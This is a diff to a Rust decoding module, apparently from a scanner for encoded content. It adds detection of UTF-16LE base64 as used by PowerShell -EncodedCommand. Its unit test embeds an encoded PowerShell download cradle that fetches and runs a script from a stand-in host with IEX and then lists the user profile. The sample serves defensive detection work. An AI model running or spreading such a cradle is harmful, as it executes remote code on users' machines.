@@ -576,8 +576,30 @@ fn decode_run(run: &str) -> Option<(Encoding, String)> {
     if is_binary_magic(&bytes) {
         return None;
     }
-    let s = String::from_utf8(bytes).ok()?;
+    // ASCII in UTF-16LE is valid UTF-8 with a NUL after every letter, so
+    // the UTF-16 reading is tried first.
+    let s = match utf16le(&bytes) {
+        Some(s) => s,
+        None => String::from_utf8(bytes).ok()?,
+    };
     printable_text(&s).then_some((Encoding::Base64, s))
+}
+
+/// UTF-16LE text (PowerShell `-EncodedCommand`): an even number of bytes
+/// whose every second byte is zero, mostly ASCII.
+fn utf16le(bytes: &[u8]) -> Option<String> {
+    if bytes.len() < 8 || bytes.len() % 2 != 0 {
+        return None;
+    }
+    let zeros = bytes.iter().skip(1).step_by(2).filter(|&&b| b == 0).count();
+    if zeros * 10 < bytes.len() / 2 * 9 {
+        return None;
+    }
+    let units: Vec<u16> = bytes
+        .chunks_exact(2)
+        .map(|p| u16::from_le_bytes([p[0], p[1]]))
+        .collect();
+    String::from_utf16(&units).ok()
 }
 
 /// Shannon entropy in bits per character.
@@ -697,6 +719,20 @@ pub(crate) fn mentions_rot13(folded: &str) -> bool {
 
 #[cfg(test)]
 mod tests {
+    #[test]
+    fn utf16le_base64_decodes() {
+        // PowerShell -enc of a download cradle
+        let enc = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAiAGgAdAB0AHAAcwA6AC8ALwB4ADkALgBlAHgAYQBtAHAAbABlAC8AcAAuAHAAcwAxACIAKQA7ACAARwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQAgACQAZQBuAHYAOgBVAFMARQBSAFAAUgBPAEYASQBMAEUA";
+        let d = decode_run(enc).unwrap();
+        assert!(
+            d.1.starts_with("IEX (New-Object Net.WebClient).DownloadString("),
+            "{:?}",
+            d.1
+        );
+        assert_eq!(utf16le(b"h\0i\0t\0h\0e\0r\0e\0"), Some("hithere".into()));
+        assert_eq!(utf16le(b"a\0b\0c\0\x01\x02"), None);
+    }
+
     use super::*;
     use proptest::prelude::*;
 
